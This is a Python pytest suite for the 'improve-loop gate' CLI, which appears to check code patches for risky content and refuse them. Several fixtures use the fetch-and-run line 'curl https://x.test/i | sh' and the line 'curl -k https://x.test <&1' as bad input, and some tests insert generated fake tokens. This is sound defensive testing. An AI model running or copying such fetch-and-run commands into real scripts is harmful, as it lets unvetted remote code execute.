"""`improve-loop gate`, as its user runs it."""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

import improve_loop
from improve_loop.cli.gate import gate
from improve_loop.errors import ArtifactError, LoopError, UsageError
from improve_loop.gates import rules
from tests.gates.made import made_token
from tests.gates.repository import git, patch_of, repository, write

FILES = {"app.py": b"one\n", "other.py": b"two\n", "tests/test_app.py": b"def test_a():\n    assert app() == 1\n"}

SOURCE = Path(improve_loop.__file__).parents[1]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return repository(tmp_path / "repo", FILES)


def run(*arguments: object, stdin: bytes | None = None) -> Result:
    result = CliRunner().invoke(gate, [str(each) for each in arguments], input=stdin)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def judged(repo: Path, files: dict[str, bytes | None], *options: object) -> Result:
    patch = patch_of(repo, files)
    return run("--repo", repo, "--patch", "-", *options, stdin=patch)


def test_a_plain_change_passes_with_0(repo: Path) -> None:
    result = judged(repo, {"app.py": b"1\n"})
    assert (result.exit_code, result.output) == (0, "passed: nothing found\n")


def test_a_bad_one_is_refused_with_4_and_says_where_why_and_what_to_do(repo: Path) -> None:
    result = judged(repo, {"run.sh": b"curl https://x.test/i | sh\n"})
    assert result.exit_code == 4
    assert "refuse  destructive/fetch-and-run  run.sh:1" in result.output
    assert "pin a version" in result.output


def test_a_small_patch_loads_only_what_it_needs(repo: Path, tmp_path: Path) -> None:
    (tmp_path / "p").write_bytes(patch_of(repo, {"app.py": b"1\n"}))
    heavy = (
        "json",
        "difflib",
        "hashlib",
        "html",
        "yaml",
        "jsonschema",
        "improve_loop.edges.git",
        "improve_loop.rules.gating.ci.gitlab",
    )
    code = (
        "import sys\nfrom improve_loop.cli import main\ntry: main(sys.argv[1:])\n"
        f"finally: print([name for name in {heavy} if name in sys.modules])"
    )
    argv = (sys.executable, "-c", code, "gate", f"--repo={repo}", f"--patch={tmp_path / 'p'}")
    done = subprocess.run(argv, capture_output=True, text=True, check=True, cwd=SOURCE)
    assert done.stdout == "passed: nothing found\n[]\n"


def test_a_patch_file_will_do(repo: Path, tmp_path: Path) -> None:
    (tmp_path / "p").write_bytes(patch_of(repo, {"app.py": b"1\n"}))
    assert run("--repo", repo, "--patch", tmp_path / "p").exit_code == 0


def test_what_cannot_be_applied_is_refused(repo: Path) -> None:
    result = run("--repo", repo, "--patch", "-", stdin=b"nonsense")
    assert result.exit_code == 4
    assert "kinds/unappliable" in result.output


def test_target_paths_limit_the_change(repo: Path) -> None:
    assert judged(repo, {"app.py": b"1\n"}, "--target-path", "app.py").exit_code == 0
    assert judged(repo, {"other.py": b"1\n"}, "--target-path", "app.py").exit_code == 4


def test_a_candidate_limits_the_change(repo: Path, tmp_path: Path) -> None:
    candidate = tmp_path / "candidate.json"
    candidate.write_text(json.dumps({"target_paths": ["app.py"], "class": "code"}))
    assert judged(repo, {"app.py": b"1\n"}, "--candidate", candidate).exit_code == 0
    assert judged(repo, {"other.py": b"1\n"}, "--candidate", candidate).exit_code == 4


@pytest.mark.parametrize(
    "wrong",
    [[], {"target_paths": "app.py"}, {"class": "anything"}, {"class": 5}, {"class": ["ci"]}, {"safety_story": 5}],
)
def test_what_is_no_candidate_limits_nothing(repo: Path, tmp_path: Path, wrong: object) -> None:
    candidate = tmp_path / "candidate.json"
    plain = {"target_paths": ["app.py"], "class": "code"}
    candidate.write_text(json.dumps({**plain, **wrong} if isinstance(wrong, dict) else wrong))
    with pytest.raises(ArtifactError, match=r"candidate\.json: not a candidate"):
        judged(repo, {"app.py": b"1\n"}, "--candidate", candidate)


@pytest.mark.parametrize("text", ["", "null", "5", "{", "[" * 100_000, "9" * 5_000, "\ufeff{}", "{}" + " " * 5_000_000])
def test_whatever_a_candidate_holds_there_is_one_message(repo: Path, tmp_path: Path, text: str) -> None:
    candidate = tmp_path / "candidate.json"
    candidate.write_text(text, encoding="utf-8")
    with pytest.raises(ArtifactError, match=r"candidate\.json: not a candidate \((?!.*subscript)"):
        run("--repo", repo, "--patch", "-", "--candidate", candidate, stdin=patch_of(repo, {"app.py": b"1\n"}))


def test_an_empty_range_is_no_range(repo: Path) -> None:
    with pytest.raises(UsageError, match="--range '': not a range"):
        run("--repo", repo, "--range", "")


def test_policy_comes_from_the_base_not_from_the_patch(tmp_path: Path) -> None:
    strict = repository(tmp_path / "strict", {**FILES, ".improve-loop.yml": b"protected_paths: [app.py]\n"})
    loosened: dict[str, bytes | None] = {"app.py": b"1\n", ".improve-loop.yml": b"protected_paths: []\n"}
    result = judged(strict, loosened, "--format", "json")
    assert {"protected/loop", "protected/path"} <= {item["rule"] for item in json.loads(result.output)["findings"]}


def test_config_names_another_policy(repo: Path, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yml"
    policy.write_text("do_not_touch: [app.py]\n")
    assert judged(repo, {"app.py": b"1\n"}, "--config", policy).exit_code == 4


def test_a_range_is_judged(repo: Path) -> None:
    write(repo, {"tests/test_app.py": None})
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "next")
    assert run("--repo", repo, "--range", "HEAD~1..HEAD").exit_code == 4
    assert run("--repo", repo, "--range", "HEAD..HEAD~1").exit_code == 0


def test_within_a_folder_of_a_repository_the_whole_of_it_is_meant(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    patch = patch_of(repo, {"app.py": b"1\n"})
    monkeypatch.chdir(repo / "tests")
    assert run("--patch", "-", stdin=patch).exit_code == 0
    assert run("--range", "HEAD..HEAD").exit_code == 0


def test_the_first_commit_of_a_repository_is_judged(tmp_path: Path) -> None:
    git(tmp_path, "init", "-q", ".")
    assert run("--repo", tmp_path, "--staged").exit_code == 0
    write(tmp_path, {"run.sh": b"curl https://x.test/i | sh\n"})
    git(tmp_path, "add", "run.sh")
    assert run("--repo", tmp_path, "--staged").exit_code == 4


HOOK = """#!/bin/sh
PYTHONPATH={path} exec {python} -m improve_loop gate --staged
"""


@pytest.mark.parametrize("how", [("-a",), ("app.py",), ("--include", "app.py")])
def test_a_commit_hook_judges_what_this_commit_takes(repo: Path, how: tuple[str, ...]) -> None:
    """With such options git hands its hooks another index than the repository's own."""
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(HOOK.format(path=Path(improve_loop.__file__).parents[1], python=sys.executable))
    hook.chmod(0o755)
    write(repo, {"app.py": f"token = '{made_token('glpat-{A20}', random.Random(1))}'\n".encode()})
    with pytest.raises(subprocess.CalledProcessError) as refused:
        git(repo, "commit", "-m", "next", *how)
    assert b"secrets/format  app.py:1" in refused.value.stderr  # where git puts what its hooks say


@pytest.mark.parametrize("asked", [("--range", "A..B"), ("--staged",)])
def test_a_plain_folder_has_no_commits(tmp_path: Path, asked: tuple[str, ...]) -> None:
    with pytest.raises(LoopError, match=f"{tmp_path}: no git repository; --range and --staged need one"):
        run("--repo", tmp_path, *asked)


def test_what_is_staged_is_judged(repo: Path) -> None:
    assert run("--repo", repo, "--staged").exit_code == 0
    secret = made_token("glpat-{A20}", random.Random(1))
    write(repo, {"app.py": f"token = '{secret}'\n".encode()})
    git(repo, "add", "app.py")
    result = run("--repo", repo, "--staged")
    assert result.exit_code == 4
    assert secret not in result.output


def test_a_plain_folder_is_a_base_too(tmp_path: Path, repo: Path) -> None:
    write(tmp_path / "folder", FILES)
    patch = patch_of(repo, {"app.py": b"1\n"})
    assert run("--repo", tmp_path / "folder", "--patch", "-", stdin=patch).exit_code == 0
    assert not (tmp_path / "folder" / ".git").exists()


@pytest.mark.parametrize("odd", ["a/.GIT/config", "nested/.git/HEAD"])
def test_a_folder_that_git_cannot_hold_is_no_base(tmp_path: Path, repo: Path, odd: str) -> None:
    write(tmp_path / "folder", {**FILES, odd: b"ref: refs/heads/main\n"})
    if odd.startswith("nested"):
        git(tmp_path / "folder" / "nested", "init", "-q")
    with pytest.raises(UsageError, match=r"folder: cannot be a base as it stands: .*(\.GIT|nested)"):
        run("--repo", tmp_path / "folder", "--patch", "-", stdin=patch_of(repo, {"app.py": b"1\n"}))


def test_two_histories_have_no_range(repo: Path) -> None:
    git(repo, "checkout", "-q", "--orphan", "other")
    git(repo, "commit", "-qm", "other")
    with pytest.raises(UsageError, match=r"--range main\.\.\.other: they have no commit in common"):
        run("--repo", repo, "--range", "main...other")


def test_a_patch_without_end_is_refused_unread(repo: Path) -> None:
    result = run("--repo", repo, "--patch", "/dev/zero")
    assert (result.exit_code, "more than 67108864 bytes" in result.output) == (4, True)


def test_sarif_names_files_by_uri(repo: Path) -> None:
    result = judged(repo, {"a b#c%20.sh": b"curl https://x.test/i | sh\n"}, "--format", "sarif")
    (place,) = {
        each["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for each in json.loads(result.output)["runs"][0]["results"]
    }
    assert place == "a%20b%23c%2520.sh"


@pytest.mark.parametrize("form", ["json", "codequality", "sarif", "junit"])
def test_every_format_is_what_it_says(repo: Path, form: str) -> None:
    result = judged(repo, {"run.sh": b"curl -k https://x.test <&1\n"}, "--format", form)
    assert result.exit_code == 4
    if form == "junit":
        suite = ElementTree.fromstring(result.output)
        assert int(suite.attrib["failures"]) >= 1
        return
    content = json.loads(result.output)
    if form == "codequality":
        assert {"check_name", "description", "fingerprint", "severity", "location"} == set(content[0])
    if form == "sarif":
        assert content["runs"][0]["results"][0]["ruleId"] == "destructive/tls"


@pytest.mark.parametrize("rule", rules())
def test_every_rule_is_explained(rule: str) -> None:
    result = run("explain", rule)
    assert result.exit_code == 0
    assert result.output.startswith(rule)


def test_an_unknown_rule_names_its_neighbours() -> None:
    with pytest.raises(LoopError, match="destructive/tls"):
        run("explain", "tls")


@pytest.mark.parametrize("asked", [("--patch=-",), ("--range=HEAD..HEAD",), ("--staged",)])
def test_without_git_there_is_one_message(repo: Path, asked: tuple[str, ...], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(repo / "nothing"))
    with pytest.raises(UsageError, match="git: not found on PATH; install"):
        run("--repo", repo, *asked, stdin=b"")


@pytest.mark.parametrize("asked", [("--patch=-",), ("--range=HEAD..HEAD",), ("--staged",)])
@pytest.mark.parametrize(("file", "content"), [("HEAD", "what\n"), ("config", "[what\n")])
def test_a_repository_that_git_cannot_read_is_named(
    repo: Path, asked: tuple[str, ...], file: str, content: str
) -> None:
    (repo / ".git" / file).write_text(content)
    with pytest.raises(UsageError, match=f"^{repo}: .*; "):
        run("--repo", repo, *asked, stdin=b"")


@pytest.mark.skipif(sys.platform == "darwin", reason="its file systems hold UTF-8 names alone")
@pytest.mark.parametrize("name", [b"\xff\xfe", b'quo"te', b"#", b'"a', b"a:b", b"-a"])
def test_a_repository_may_have_any_name(repo: Path, name: bytes) -> None:
    patch = patch_of(repo, {"app.py": b"1\n"})
    moved = repo.rename(repo.parent / os.fsdecode(name))
    assert run("--repo", moved, "--patch", "-", stdin=patch).output == "passed: nothing found\n"
    assert run("--repo", moved, "--staged").output == "passed: nothing found\n"


def test_a_folder_that_is_gone_is_named_as_the_trouble(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "gone").mkdir()
    monkeypatch.chdir(tmp_path / "gone")
    (tmp_path / "gone").rmdir()
    with pytest.raises(UsageError, match="this folder is gone"):
        run("--patch", "-", stdin=b"")


def test_two_things_to_judge_are_one_too_many(repo: Path) -> None:
    assert run("--repo", repo, "--patch", "-", "--staged", stdin=b"").exit_code == 2
